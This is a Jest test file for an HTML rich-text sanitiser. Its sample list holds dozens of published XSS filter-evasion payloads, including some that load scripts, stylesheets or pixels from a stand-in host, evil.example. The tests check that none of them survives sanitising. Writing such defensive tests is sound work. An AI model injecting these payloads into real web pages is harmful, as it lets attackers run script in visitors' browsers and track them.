import { expect, test } from '@jest/globals'
import { cleanRichText, escapeText, richTextSummary } from './rich-text.ts'

/**
 * Published samples: the OWASP XSS filter evasion sheet, the PortSwigger cheat sheet, the html5sec list, and mutation samples that passed
 * earlier versions of well-known sanitisers.
 */
const SAMPLES: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)//<p>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<img src="/files/a.png" onload="alert(1)">',
  '<img src=/files/a.png srcset="https://evil.example/a 2x">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/files/../api/user/logout">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="position:fixed;inset:0;z-index:99999">cover</p>',
  '<p style="text-align:center;background:url(https://evil.example)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav\u0000ascript:alert(1)">x</a>',
  '<a href="&Tab;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a onmouseover="alert(1)" href="#">x</a>',
  '<a href="https://x.example" target="_top" onclick=alert(1)>x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<isindex action="javascript:alert(1)">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">',
  '<p id="location" name="cookie">clobber</p>',
  '<a id=defaultView><a id=defaultView name=x href="javascript:alert(1)">',
  '<p class="zzf-header" data-x="1" aria-hidden="true">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '<img/src/onerror=alert(1)>',
  '<img\nsrc=x\nonerror\n=\nalert(1)>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onpointerrawupdate=alert(1)>x</custom-element>',
  '\u2028<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<p>unclosed <b>bold <i>both',
  '</p></div></body></html><script>alert(1)</script>',
  `${'<div>'.repeat(500)}deep${'</div>'.repeat(500)}`,
  '<',
  '',
]

const EVENT = /<[^>]*\son[a-z]+\s*=/i
const ATTRIBUTES = /<[a-z0-9]+((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi
const ALLOWED = new Set(['href', 'title', 'target', 'rel', 'src', 'alt', 'width', 'height', 'colspan', 'rowspan', 'scope', 'start', 'style'])

test.each(SAMPLES.map((sample) => [sample.slice(0, 60), sample]))('[MS-03] nothing of %s runs or calls out', (_, sample) => {
  const clean = cleanRichText(sample)
  expect(clean).not.toMatch(/<\s*(script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|template|noscript|video|audio|body|xmp|textarea)/i)
  expect(clean).not.toMatch(EVENT)
  for (const [, attributes = ''] of clean.matchAll(ATTRIBUTES))
    for (const [, name = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/gi)) {
      expect([...ALLOWED]).toContain(name)
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:|#|\/(?!\/))/)
      if (name === 'src') expect(value).toMatch(/^\/files\/(?!.*\.\.)/)
      if (name === 'style') expect(value).toMatch(/^text-align:(left|right|center|justify)$/)
    }
  expect(cleanRichText(clean)).toBe(clean)
})

test('[MS-03] what people write stays as it was', () => {
  const text =
    '<h3>标题</h3><p style="text-align:center">正文 <strong>重点</strong></p><ul><li>一</li></ul><table><tbody><tr><td colspan="2">格</td></tr></tbody></table>'
  expect(cleanRichText(text)).toBe(text)
  expect(cleanRichText('<img src="/files/uc/2026/ab12.png" alt="图">')).toBe('<img src="/files/uc/2026/ab12.png" alt="图" />')
  expect(cleanRichText('<a href="https://gov.example/x">看</a>')).toBe('<a href="https://gov.example/x" target="_blank" rel="noopener noreferrer">看</a>')
})

test('[MS-03] a name with markup in it is shown as it is spelled, never as markup', () => {
  const name = '<img src=x onerror=alert(1)> & “社区” <b>'
  const stored = cleanRichText(escapeText(`待办“${name}”已指派给您`))
  expect(stored).not.toContain('<')
  expect(richTextSummary(stored, 200)).toBe(`待办“${name}”已指派给您`)
})

test('[MS-01] the summary is the words of the text on one line, cut at whole characters', () => {
  expect(richTextSummary('<h3>通知</h3><p>各部门：</p><ul><li>一</li><li>二</li></ul>', 50)).toBe('通知 各部门： 一 二')
  expect(richTextSummary('<p>𠮷𠮷𠮷𠮷</p>', 3)).toBe('𠮷𠮷…')
  expect(richTextSummary('<p>a &amp;lt; b</p><script>x()</script>', 50)).toBe('a &lt; b')
  expect(richTextSummary('<p>cut in the middle of <a href="', 50)).toBe('cut in the middle of')
})
